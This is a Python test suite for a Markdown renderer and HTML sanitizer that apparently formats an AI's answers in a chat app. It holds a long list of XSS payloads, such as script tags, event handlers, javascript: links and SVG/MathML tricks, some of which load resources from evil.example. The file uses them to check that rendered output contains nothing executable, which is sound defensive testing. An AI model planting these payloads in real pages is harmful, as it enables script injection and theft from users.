"""Whatever a model writes: nothing runs, nothing is loaded, nothing raises, and the work has a limit."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser
from itertools import islice

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conversations.rendering import limits, needs_whole, render, render_block, render_open, split
from conversations.rendering.blocks import MAX_DEPTH
from conversations.rendering.cache import AROUND, RecentlyUsed
from conversations.rendering.highlight import LANGUAGES
from conversations.rendering.plain import clean, plain_block, plain_code
from conversations.rendering.sanitize import Sanitizer, is_surely_clean
from tests.rendering_pieces import CORPUS, PIECES, hostile_blocks

HOSTILE = [
    # Tags and event handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script href='https://evil.example/x.js'/></svg>",
    "<svg><image href='https://evil.example/x.svg'/><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=https://evil.example/v poster=https://evil.example/p autoplay><source srcset=https://evil.example/s>",
    "<audio src=https://evil.example/a autoplay onloadstart=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e><applet code=x>",
    "<link rel=stylesheet href=https://evil.example/c><link rel=prefetch href=https://evil.example/f>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<style>@import 'https://evil.example/c';*{background:url(https://evil.example/b)}</style>",
    "<div style='background:url(https://evil.example/b)' class=composer id=composer>x</div>",
    "<a href=https://a.b ping=https://evil.example onclick=alert(1) style=position:fixed>x</a>",
    "<picture><source srcset='https://evil.example/1 1x'><img srcset='https://evil.example/2 2x'></picture>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><title></title><textarea></textarea>",
    "<!--><script>alert(1)</script>--> <!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?> <!DOCTYPE html [<!ENTITY x 'y'>]>",
    "</div></article></main></body></html><script>alert(1)</script>",
    # Links
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( \tjavascript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](\x01javascript:alert(1)) [b](\x00javascript:alert(1)) [c](\u00a0javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](ftp://evil.example) [d](blob:https://a/b) [e](tel:1)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](//evil.example) [b](/accounts/logout) [c](?next=//evil.example) [d](\\\\evil.example) [e](#composer) [f]()",
    "[a](https://b.c\"onmouseover=\"alert(1)) [b](https://b.c'onmouseover='alert(1)) [c](https://b.c`x)",
    '[a](https://b.c "t" onclick=alert(1)) [b](https://b.c \'t" onclick="alert(1)\') [c](https://b.c (t"))',
    "[a](https://b.c)<script>alert(1)</script> [<img src=x onerror=alert(1)>](https://b.c)",
    "[a](https:javascript:alert(1)) [b](https:///) [c](mailto:a@b.c?subject=<script>) [d](http:\\\\evil.example)",
    '[a][x]\n\n[x]: javascript:alert(1)\n[y]: <data:text/html,x> "onclick=alert(1)"\n\n[b][y]',
    "[x]\n\n[x]: https://b.c '\" onclick=alert(1) \"'",
    '<javascript:alert(1)> <data:text/html,x> <https://b.c"onclick=alert(1)> <https://b.c onclick=alert(1)>',
    "https://b.c/\"onclick=alert(1) https://b.c/'x'> https://b.c/<script>alert(1)</script> www.\"x.y",
    'javascript:alert(1)//@b.c "><script>alert(1)</script>"@b.c <a@b.c"onclick=alert(1)>',
    "[a](https://b.c){onclick=alert(1) style=x} {: onclick=alert(1) } # h {#composer onclick=alert(1)}",
    "[" * 50 + "a" + "](javascript:alert(1))" * 50,
    "[![a](javascript:alert(1))](javascript:alert(2)) [[a](https://b.c)](https://d.e)",
    "[a](https://b.c\u202egpj.exe) [b](java\u200bscript:alert(1)) [c](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    # Pictures and what else is loaded
    "![a](https://evil.example/p.png?secret)",
    "![a](//evil.example/p.png) ![b](/accounts/logout) ![c](data:image/svg+xml,<svg onload=alert(1)>)",
    '![a](https://evil.example/p.png \'x" onerror="alert(1)\') !["onerror=alert(1)](https://evil.example/x)',
    "![a][x] ![x] ![x][]\n\n[x]: https://evil.example/p.png",
    "![a](javascript:alert(1)) ![<img src=x onerror=alert(1)>](https://evil.example/)",
    "![a](https://evil.example/p.png){width=1 onload=alert(1)} ![a](<https://evil.example/ onerror=alert(1)>)",
    # Mathematics
    r"$\href{javascript:alert(1)}{x}$ $\url{javascript:alert(1)}$ $\class{composer}{x}$ $\style{position:fixed}{x}$",
    r"$\text{<script>alert(1)</script>}$ $<img src=x onerror=alert(1)>$ $$\unknown{</code><script>alert(1)</script>}$$",
    r"\(\text{</math></p><script>alert(1)</script>}\) \[\mathrm{<style>*{}</style>}\] $\text{&lt;script&gt;}$",
    r"$\includegraphics{https://evil.example/p.png}$ $\html{<b>}$ $\unicode{x3c}script\unicode{x3e}$ $\char60 script$",
    r"$\begin{array}{c}\text{]]><!--}\end{array}$ $\hspace{-999em}\raisebox{99em}{x}$ $\color{url(https://evil.example)}x$",
    # Code
    '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    '```js onload=alert(1) class="x"\nx\n```\n~~~"><img src=x onerror=alert(1)>\nx\n~~~',
    "```{.python onclick=alert(1) #composer style=x}\nx\n```",
    "`<script>alert(1)</script>` ``</code><script>alert(1)</script>``",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<style>@import 'x'</style><script>alert(1)</script><!-- --><svg onload=alert(1)>\n```",
    "```php\n<?php echo '<script>'; ?><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    # Tables, lists, footnotes
    "|<script>alert(1)</script>|<br onclick=alert(1)>|\n|-|-|\n|<img src=x onerror=alert(1)>|[a](javascript:0)|",
    "- <script>alert(1)</script>\n  - <img src=x onerror=alert(1)>\n- [x] <input type=checkbox onclick=alert(1)>",
    'a[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: <script>alert(1)</script>',
    "a[^1]\n\n[^1]: [a](javascript:alert(1)) ![b](https://evil.example/p.png) <img src=x onerror=alert(1)>",
    # What Python-Markdown and bleach mark places with, and what parsers disagree about
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 \x0260\x03script\x0262\x03 `x` <b>",
    "\x02amp\x03#60;script&#62; &#60;script&#62;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;",
    "&NewLine;&Tab;&lpar;&colon; &#0; &#x110000; &#xD800; &amp;lt;script&amp;gt; &",
    "<\x00script>alert(1)</script> <scr\x00ipt> <img\x0bsrc=x\x0conerror=alert(1)>",
    "＜script＞alert(1)＜/script＞ \ufe64script\ufe65 \u2028<script>\u2029 \u3008 <ſcript> <ımg>",
    "<a href=\"https://b.c\" title='\n\n```\n'><script>alert(1)</script>\n```\n",
    "\ud800<script>\udfff",
]

# What may stand on a page, written down a second time: a slip in sanitize.py must show here.
ELEMENTS = """
a blockquote br code del details div em h1 h2 h3 h4 h5 h6 hr li ol p pre span strong summary sup
table tbody td th thead tr ul
b i math mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow mspace msqrt mstyle msub msubsup
msup mtable mtd mtext mtr munder munderover none
"""
EM = r"-?[0-4](\.\d+)?(em|ex)?"
FLAG = "true|false"
ATTRIBUTES = {
    **{(tag, "dir"): "rtl" for tag in ("ul", "ol", "blockquote", "table")},
    **{(f"h{level}", "aria-level"): str(level + 2) for level in range(1, 7)},
    ("a", "href"): r"(?i:https?://|mailto:)\S+|#fn(ref)?-[0-9a-f]{12}-\d+",
    ("a", "rel"): "noopener noreferrer nofollow",
    ("a", "target"): "_blank",
    ("a", "title"): r"(?s).*",
    ("a", "class"): "image-link|footnote-back",
    ("code", "class"): r"tex|language-[A-Za-z0-9_+#.-]+",
    ("div", "class"): "code|code-head|table",
    ("div", "role"): "region",
    ("div", "tabindex"): "0",
    ("li", "class"): "task|task done",
    ("li", "id"): r"fn-[0-9a-f]{12}-\d+",
    ("ol", "start"): r"\d+",
    ("pre", "class"): "plain",
    ("details", "class"): "footnotes",
    ("span", "class"): r"code-lang|host|math displayed|math long|[a-z]{1,3}\d?",
    ("math", "display"): "block",
    ("mfrac", "displaystyle"): FLAG,
    ("mfrac", "scriptlevel"): r"\d",
    ("mfrac", "linethickness"): EM,
    ("mi", "mathvariant"): "normal",
    ("mo", "accent"): FLAG,
    ("mo", "form"): "prefix|infix|postfix",
    ("mo", "lspace"): EM,
    ("mo", "rspace"): EM,
    ("mo", "minsize"): EM,
    ("mo", "maxsize"): EM,
    ("mo", "stretchy"): FLAG,
    ("mover", "accent"): FLAG,
    ("munder", "accentunder"): FLAG,
    ("mpadded", "width"): EM,
    ("mpadded", "height"): EM,
    ("mpadded", "depth"): EM,
    ("mrow", "displaystyle"): FLAG,
    ("mrow", "scriptlevel"): r"\d",
    ("mrow", "class"): r"boxed|line-over|line-under|strike-(up|down)( strike-(up|down))?",
    ("mspace", "width"): EM,
    ("mspace", "class"): "back",
    ("mtable", "displaystyle"): FLAG,
    ("mtable", "scriptlevel"): r"\d",
    ("mtd", "class"): r"((^| )(from-(left|right)|tight-(left|right)|apart|line-(above|below|left|right)))+",
    ("sup", "class"): "footnote-ref",
    ("sup", "id"): r"fnref-[0-9a-f]{12}-\d+",
    ("td", "class"): "align-(left|center|right)",
    ("th", "class"): "align-(left|center|right)",
}
TAGS = set(ELEMENTS.split())


class Inspector(HTMLParser):
    """Fails at the first thing that has no place in an answer."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.text = ""
        self.links: list[dict[str, str]] = []

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS
        for name, value in attrs:
            assert re.fullmatch(ATTRIBUTES[tag, name], value), (tag, name, value)
        assert len(attrs) == len(dict(attrs))
        if tag == "a":
            self.links.append(dict(attrs))
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def parsed(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert not inspector.open
    return inspector


def inspect(html: str) -> Inspector:
    inspector = parsed(html)
    for link in inspector.links:
        if not link.get("href", "#").startswith("#"):
            assert link["rel"] == "noopener noreferrer nofollow"
            assert link["target"] == "_blank"
    return inspector


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "frame", ["{}", "- {}", "> {}", "1. a\n\n   {}", "| a |\n|---|\n| {} |", "**{}**", "[{}](https://b.c)"]
)
def test_hostile_text_is_only_text(text, frame):
    text = frame.format(text)
    for html in (render(text), render_block(text), render_open(text)):
        inspect(html)


@pytest.mark.parametrize("text", [text for text in HOSTILE if text.startswith("<") and not set("`\n") & set(text)])
def test_raw_html_is_shown_as_it_was_written(text):
    shown = inspect(render(text)).text
    autolink = re.compile("<(https:[^ <>]*)>")  # which is Markdown, not HTML
    assert shown == unescape(autolink.sub(r"\1", clean(text)))


@pytest.mark.parametrize(
    "text", ["[a](javascript:alert(1))", "[a](/admin/)", "[a](//b.c)", "![a](data:image/png;base64,AA)"]
)
def test_a_link_to_elsewhere_than_the_web_is_no_link(text):
    assert render(text) == "<p><span>a</span></p>"


def test_no_answer_can_be_cut_so_that_something_runs():
    text = "\n\n".join(HOSTILE)
    for end in range(0, len(text), 7):
        inspect(render_open(text[max(0, end - 60) : end]))
    inspect(render(text))


@settings(deadline=None)
@given(st.lists(st.sampled_from([*PIECES, *HOSTILE]), max_size=30).map("".join))
def test_any_mixture_is_safe_and_none_raises(text):
    inspect(render(text))
    for block in split(text):
        inspect(render_block(block))
        inspect(render_open(block))


@settings(deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_safe_and_none_raises(text):
    inspect(render(text))


@settings(deadline=None)
@given(
    st.sampled_from(["c++", "php", "html", *sorted(LANGUAGES)]),
    st.lists(st.sampled_from([*PIECES, *HOSTILE]), max_size=20),
)
def test_any_code_is_safe_and_none_raises(language, pieces):
    inspect(render(f"``````{language}\n{''.join(pieces)}\n``````"))


def test_hostile_blocks_raise_nothing_and_stay_within_the_limits():
    for text in islice(hostile_blocks(seed=1), 150):
        html = render_block(text)
        inspect(html)
        if '<pre class="plain">' not in html:
            assert html.count("<") <= limits.TAGS


# What is not formatted takes no part in any parsing: it is shown as it was written.


@pytest.mark.parametrize(
    "text",
    [
        "word " * (limits.BLOCK // 5 + 1) + "*a*",
        "[" * (limits.MARKERS + 1),
        "` " * (limits.MARKERS + 1),
        "**a " * limits.MARKERS,
        "www.a " * (limits.MARKERS + 1),
        "> " * (limits.MARKERS + 1),
        "|a|b|\n|-|-|\n" + "|a|b|\n" * limits.MARKERS,
        "- " * limits.BLOCK,
        "&amp;" * (limits.TAGS + 1),
    ],
)
def test_a_block_over_the_limits_is_shown_as_it_was_written_and_its_neighbours_formatted(text):
    html = render(f"**before**\n\n{text}\n\n**after**")
    assert html == f"<p><strong>before</strong></p>{plain_block(text)}<p><strong>after</strong></p>"


def test_a_block_that_makes_too_many_elements_is_shown_as_it_was_written():
    text = "a@b.c " * (limits.TAGS // 5 + 1)
    assert limits.can_format(text)
    assert render_block(text) == plain_block(text)


def test_a_paragraph_over_the_limits_leaves_its_list_a_list():
    long = "word *a* " * (limits.INLINE // 9 + 1)
    html = render(f"- **one**\n- {long}\n  - **two**")
    assert (
        html == f"<ul><li><strong>one</strong></li><li>{long.strip()}<ul><li><strong>two</strong></li></ul></li></ul>"
    )


def test_inline_work_is_limited_for_the_whole_block():
    item = "[a *b* c " * 20
    assert limits.inline_work(item) < limits.INLINE_WORK < 40 * limits.inline_work(item)
    html = render_block(f"- {item}\n" * 40)
    assert 0 < html.count("<em>") < 40 * 20
    assert html.count("<li>") == 40


@pytest.mark.parametrize("marker", ["- ", "> ", "1. ", "- > ", "> 1. "])
@pytest.mark.parametrize("count", [50, 495, 1_500])
def test_nesting_has_an_end(marker, count):
    html = render(marker * count + "deep")
    inspect(html)
    assert "deep" in html
    assert len(re.findall("<(?:ul|ol|blockquote)[ >]", html)) <= MAX_DEPTH


def test_long_code_is_code_without_colours():
    lines = ["x = 1 < 2"] * (limits.CODE // 9)
    assert render("```python\n" + "\n".join(lines) + "\n```") == plain_code("python", lines)
    assert render(f"```python\n{'x' * (limits.CODE_LINE + 1)}\n```").count('<span class="n') == 0
    assert render("```python\n" + "'a'+\n" * limits.SPANS + "```").count("<span") == 1


def test_the_code_in_a_list_shares_its_limits():
    fence = "  ```python\n" + "  'a'+\n" * (limits.SPANS_WITHIN // 5) + "  ```\n"
    html = render("- a\n" + 4 * fence)
    assert html.count('<div class="code">') == 4
    assert 0 < html.count('<span class="s1">') <= limits.SPANS_WITHIN


def test_code_that_lexers_are_slow_with_is_code_without_colours():
    # Each opening brace makes the lexer look for its partner up to the end: half a second for 9 kB.
    lines = ["{" * 12] * 700
    assert limits.can_highlight(lines)
    assert render("```pascal\n" + "\n".join(lines) + "\n```") == plain_code("pascal", lines)


def test_definitions_have_a_limit():
    text = "".join(f"[{number}]: https://b.c/{number}\n" for number in range(limits.DEFINITIONS + 1))
    html = render(f"[0] [{limits.DEFINITIONS - 1}] [{limits.DEFINITIONS}]\n\n{text}")
    address = f"https://b.c/{limits.DEFINITIONS}"
    assert needs_whole(text)
    assert html.count("<a ") == 3
    assert html.endswith(f">{address}</a></p>")


def test_footnotes_have_a_limit():
    text = "".join(f"[^{number}]: x\n" for number in range(limits.DEFINITIONS + 1))
    html = render(f"[^0] [^{limits.DEFINITIONS}]\n\n{text}")
    assert html.count("<li ") == limits.DEFINITIONS
    assert f"<p>[^{limits.DEFINITIONS}]: x</p>" in html


def test_too_many_footnotes_are_shown_as_they_were_written():
    text = "".join(f"[^{number}]: a@b.cd c@d.ef g@h.ij\n" for number in range(limits.DEFINITIONS))
    html = render(f"a[^1]\n\n{text}")
    assert html.endswith(plain_block(text))
    inspect(html)


def test_100_kb_of_an_ordinary_answer_are_formatted():
    answers = "\n\n".join(path.read_text(encoding="utf-8") for path in CORPUS if path.stem != "sources")
    answer = answers.replace("    return x\n", "    return x\n```\n") + "\n\n"
    times = 100_000 // len(answer) + 1
    html = render(answer * times)
    assert html == render(answer) * times
    assert '<pre class="plain">' not in html
    inspect(html)


def through_bleach(html: str) -> str:
    return Sanitizer()._cleaner.clean(html)


def test_what_skips_bleach_is_what_bleach_would_leave_as_it_is():
    for text in [*HOSTILE, *islice(hostile_blocks(seed=2), 200)]:
        text = "." + clean(text)[:2_000]
        for html in (plain_block(text), plain_code("js", text.split("\n"))):
            assert through_bleach(html) == html


def test_what_is_taken_for_surely_clean_bleach_would_leave_as_it_is():
    answers = [source for path in CORPUS for source in split(path.read_text(encoding="utf-8"))]
    blocks = [render_block(text) for text in [*answers, *HOSTILE, *islice(hostile_blocks(seed=3), 300)]]
    sure = [html for html in blocks if html[:3] != "<p>" and is_surely_clean(html)]
    assert len(sure) > 150
    for html in sure:
        assert through_bleach(html) == html


@pytest.mark.parametrize(
    "html",
    [
        *("<p onclick=x>a</p>", "<P>a</P>", "<p >a</p>", "<p/>", "<script>a</script>", "<!--a-->", "<p", "a > b", "<"),
        *(
            '<a href="https://a.b">a</a>',
            "&#106;",
            "&nbsp;",
            "&amp",
            "<p>a</p",
            "<span class=k>a</span>",
            "<ol start=1>",
        ),
        *('<span class="k" style="x">a</span>', '<span class="composer">a</span>', '<div class="composer">a</div>'),
        *('<code class="language-x&quot;">a</code>', '<p id="composer">a</p>', "<p>", "</p>", "<details>a</details>"),
        *("<svg></svg>", "<math></math>", "<textarea></textarea>", "<p>a</p>\n<img>", '<ol start="1" x="y">a</ol>'),
    ],
)
def test_anything_else_is_left_to_bleach(html):
    assert not is_surely_clean(html)
    assert not is_surely_clean(f"<p>before</p>{html}<p>after</p>")


def test_the_sanitizer_alone_lets_nothing_through():
    sanitizer = Sanitizer()
    links = [
        f"<a href='{address}' class=x>a</a>"
        for address in ("/admin/", "//b.c", "#composer", "x", "ftp://b.c", "https:")
    ]
    for text in [*HOSTILE, *links]:
        parsed(sanitizer.clean(text.encode("utf-8", "replace").decode()))


def test_recently_used_texts_are_kept_within_a_size():
    cache = RecentlyUsed(2 * AROUND + 20)
    cache.put("a", "b" * 9)
    cache.put("c", "d" * 9)
    assert cache.get("a") == "b" * 9
    cache.put("e", "f" * 11)
    assert cache.get("c") is None
    assert cache.get("a") is not None
    cache.put("e", "ế" * 3)  # in place of the other one; nine bytes
    assert cache.get("e") == "ế" * 3
    assert cache.get("a") is not None
    cache.put("g", "h" * 3 * AROUND)
    assert [cache.get(text) for text in "aceg"] == [None] * 4


def test_any_text_can_be_kept():
    cache = RecentlyUsed(10_000)
    for text in ("", "Xin chào 🧑‍💻", "\ud800", "\x00"):
        cache.put(text, text)
        assert cache.get(text) == text
